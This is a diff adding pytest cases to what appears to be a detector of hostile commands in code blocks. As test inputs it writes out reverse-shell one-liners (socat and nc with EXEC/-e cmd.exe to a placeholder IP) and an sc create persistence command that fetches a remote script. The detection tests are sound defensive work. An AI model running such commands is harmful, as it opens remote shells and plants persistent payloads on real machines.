@@ -71,3 +71,25 @@ def test_certutil_decoding_a_certificate_that_nothing_runs_stays_quiet(tmp_path:
         "assets/root.b64": base64.b64encode(b"0\x82\x01\x0a not a real certificate").decode(),
     }
     assert scan_errors(tmp_path, files) == set()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '"C:\\Program Files\\Tools (x64)\\socat.exe" TCP:198.51.100.31:8443 EXEC:cmd.exe',
+        '"D:\\Portable Apps\\nc\\nc64.exe" -e cmd.exe 198.51.100.31 9443',
+    ],
+)
+def test_a_program_named_by_a_path_with_spaces_is_one_word(tmp_path: Path, line: str) -> None:
+    assert any(rule == "REMOTE_SHELL" for rule, _, _ in scan_errors(tmp_path, _fenced("cmd", line)))
+
+
+def test_a_quoted_program_path_with_spaces_running_a_local_check_stays_quiet(tmp_path: Path) -> None:
+    line = '"C:\\Program Files\\Git\\bin\\git.exe" --version'
+    assert scan_errors(tmp_path, _fenced("cmd", line)) == set()
+
+
+def test_a_service_created_by_sc_alone_is_read(tmp_path: Path) -> None:
+    body = 'sc create PrintAssist binPath= "C:\\ProgramData\\pa\\pa.exe --from http://192.0.2.90/pa.ps1" start= auto'
+    found = scan_errors(tmp_path, _fenced("cmd", body))
+    assert any(rule == "PERSISTENCE" for rule, _, _ in found)
